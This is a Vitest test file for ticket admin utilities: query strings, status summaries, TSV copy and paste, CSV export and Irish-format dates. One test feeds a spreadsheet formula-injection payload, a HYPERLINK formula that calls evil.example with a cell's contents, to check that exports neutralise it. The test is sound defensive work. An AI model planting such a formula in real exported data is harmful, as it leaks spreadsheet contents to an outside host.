import { describe, expect, it } from 'vitest';
import {
  normaliseDate,
  parsePastedRows,
  rowsToCsv,
  summaryRows,
  ticketQuery,
  ticketsToTsv,
} from '../../../../src/features/draw/admin/ticket-tools';

describe('ticketQuery', () => {
  it('sends only the filters that are set, trimmed, with the page', () => {
    expect(ticketQuery({}, 0)).toBe('page=0&size=50');
    const q = new URLSearchParams(
      ticketQuery(
        {
          status: 'SOLD',
          ticketType: 'PAPER',
          numberFrom: ' 1001 ',
          numberTo: '1050',
          search: '  Ní Bhriain ',
        },
        2,
      ),
    );
    expect(Object.fromEntries(q)).toEqual({
      page: '2',
      size: '50',
      status: 'SOLD',
      ticketType: 'PAPER',
      numberFrom: '1001',
      numberTo: '1050',
      search: 'Ní Bhriain',
    });
  });

  it('leaves out a number range that is not a ticket number', () => {
    const q = new URLSearchParams(
      ticketQuery({ numberFrom: 'abc', numberTo: '123456789', search: '   ' }, 0),
    );
    expect(q.has('numberFrom')).toBe(false);
    expect(q.has('numberTo')).toBe(false);
    expect(q.has('search')).toBe(false);
  });
});

describe('summaryRows', () => {
  it('lists every status in the spec’s order with its count, and the total', () => {
    const { rows, total } = summaryRows({ SOLD: 12, ALLOCATED: 88, REFUNDED: 3 });
    expect(rows.map((r) => r.status)).toEqual([
      'ALLOCATED',
      'SOLD',
      'REFUNDED',
      'FAILED',
      'PENDING_PAYMENT',
      'EXPIRED',
    ]);
    expect(rows.map((r) => r.count)).toEqual([88, 12, 3, 0, 0, 0]);
    expect(total).toBe(103);
  });
});

describe('copy and paste of rows', () => {
  const sold = {
    number: 1002,
    name: 'Aoife Ní Bhriain',
    address: 'Bóthar na Trá,\nAshford',
    phone: '+353871234567',
    saleDate: '2026-11-20',
  };
  const unsold = { number: 1001, name: null, address: null, phone: null, saleDate: null };

  it('copies tab-separated rows with a header, in number order, with no line breaks inside cells', () => {
    expect(ticketsToTsv([sold, unsold]).split('\n')).toEqual([
      'ticketNumber\tname\taddress\tphone\tdate',
      '1001\t\t\t\t',
      "1002\tAoife Ní Bhriain\tBóthar na Trá, Ashford\t'+353871234567\t2026-11-20",
    ]);
  });

  it('copies no formula a spreadsheet would run, and pastes the row back as it was', () => {
    const hostile = { ...sold, name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', address: '@SUM(A1)' };
    const tsv = ticketsToTsv([hostile]);
    expect(tsv.split('\n')[1]!.split('\t').slice(1, 4)).toEqual([
      `'${hostile.name}`,
      "'@SUM(A1)",
      "'+353871234567",
    ]);
    const { rows } = parsePastedRows(tsv);
    expect(rows[0]).toMatchObject({ name: hostile.name, address: '@SUM(A1)', phone: '+353871234567' });
  });

  it('pastes what it copied (header skipped) and rows typed with commas and quotes', () => {
    const copied = ticketsToTsv([sold]);
    const typed = '1003,"Ó Dálaigh, Ciarán",Kilbride,+447700900123,21/11/2026';
    const { rows, badLines } = parsePastedRows(`${copied}\n\n${typed}\n`);
    expect(badLines).toEqual([]);
    expect(rows).toEqual([
      {
        ticketNumber: '1002',
        name: 'Aoife Ní Bhriain',
        address: 'Bóthar na Trá, Ashford',
        phone: '+353871234567',
        date: '2026-11-20',
      },
      {
        ticketNumber: '1003',
        name: 'Ó Dálaigh, Ciarán',
        address: 'Kilbride',
        phone: '+447700900123',
        date: '2026-11-21',
      },
    ]);
  });

  it('reports lines without five columns or without a ticket number, by line number', () => {
    const { rows, badLines } = parsePastedRows(
      '1001\tOnly a name\n\nx\ta\tb\tc\td\n1004\tA Name\tAddr\t+353871234567\t2026-11-20',
    );
    expect(badLines).toEqual([1, 3]);
    expect(rows.map((r) => r.ticketNumber)).toEqual(['1004']);
  });

  it('turns rows into the upload route’s CSV, quoting cells that need it', () => {
    const csv = rowsToCsv([
      {
        ticketNumber: '1003',
        name: 'Ó Dálaigh, Ciarán',
        address: 'The "Yard"',
        phone: '+44 7700 900123',
        date: '2026-11-21',
      },
    ]);
    expect(csv).toBe(
      'ticketNumber,name,address,phone,date\n1003,"Ó Dálaigh, Ciarán","The ""Yard""",+44 7700 900123,2026-11-21',
    );
  });

  it('reads Irish day-first dates and leaves other text for the server to judge', () => {
    expect(normaliseDate('1/2/2026')).toBe('2026-02-01');
    expect(normaliseDate(' 2026-02-01 ')).toBe('2026-02-01');
    expect(normaliseDate('tomorrow')).toBe('tomorrow');
  });
});
